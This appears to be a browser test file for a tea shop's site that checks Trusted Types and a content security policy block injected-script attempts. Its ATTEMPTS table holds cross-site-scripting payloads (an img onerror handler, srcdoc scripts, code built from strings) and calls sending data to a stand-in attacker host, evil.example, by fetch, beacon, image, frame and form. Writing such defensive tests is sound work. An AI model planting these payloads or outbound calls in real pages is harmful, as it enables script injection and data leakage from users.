import { expect, test } from './journey.ts';
import { visit } from './steps.ts';

/** Attempts of an injected script; each is answered by an exception or an event of the browser. */
const ATTEMPTS: Readonly<Record<string, () => void>> = {
  'markup out of text': () => {
    document.body.innerHTML = '<img src=x onerror=harm()>';
  },
  'markup beside an element': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
  'a page out of text': () => document.write('<p>x</p>'),
  'a frame out of text': () => {
    document.createElement('iframe').srcdoc = '<script>harm()</script>';
  },
  'a script out of text': () => {
    const script = document.createElement('script');
    script.append('harm()');
    document.body.append(script);
  },
  'a script from elsewhere': () => {
    document.body.append(
      Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
    );
  },
  'another worker': () => void new Worker('/google-done.js'),
  'code out of text': () => void Reflect.construct(Function, ['harm()']),
  'a handler out of text': () => document.body.setAttribute('onclick', 'harm()'),
  'a policy of its own': () =>
    void window.trustedTypes?.createPolicy('mine', { createHTML: (t) => t, createScriptURL: (t) => t }),
  'a second policy of the shop’s name': () =>
    void window.trustedTypes?.createPolicy('default', { createHTML: (t) => t, createScriptURL: (t) => t }),
  'a style out of text': () => {
    const style = document.createElement('style');
    style.append('body { background: url(https://evil.example/x) }');
    document.head.append(style);
  },
  'a style in an attribute': () => document.body.setAttribute('style', 'position: fixed'),
  'a word to another site': () => void fetch('https://evil.example/').catch(() => undefined),
  'a beacon to another site': () => void navigator.sendBeacon('https://evil.example/', 'x'),
  'a picture of another site': () => {
    new Image().src = 'https://evil.example/x.png';
  },
  'a frame of another site': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
  },
  'another base': () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
  },
  'a form to another site': () => {
    const form = Object.assign(document.createElement('form'), {
      action: 'https://evil.example/',
      method: 'post',
    });
    document.body.append(form);
    form.submit();
  },
};

test('blocks everything that an injected script tries, and records each violation', async ({
  page,
  watch,
}) => {
  await visit(page, '/tea/picked-tea/Marrakech%20Mint');
  const troubles = () => watch.faults().length;
  expect(watch.faults()).toEqual([]);
  for (const [what, attempt] of Object.entries(ATTEMPTS)) {
    const before = troubles();
    await page.evaluate(attempt).catch(() => undefined);
    await expect.poll(troubles, { message: what }).toBeGreaterThan(before);
  }
  const violations = watch.faults().filter((trouble) => trouble.includes('policy violation'));
  expect(violations.length).toBeGreaterThan(Object.keys(ATTEMPTS).length / 2);
  expect(new URL(page.url()).pathname).toContain('/tea/');
  watch.expect(/./);
});

test('a shopper moves through the whole shop while Trusted Types are enforced', async ({ page }) => {
  await visit(page, '/');
  expect(await page.evaluate(() => window.trustedTypes !== undefined)).toBe(true);
  await page.getByRole('navigation').getByRole('link', { name: 'Tea', exact: true }).first().click();
  await page.getByRole('article').first().getByRole('link').click();
  await expect(page.getByRole('heading', { name: 'Taste' })).toBeVisible();
  await expect(page.locator('script[type="application/ld+json"]').first()).toBeAttached();
});
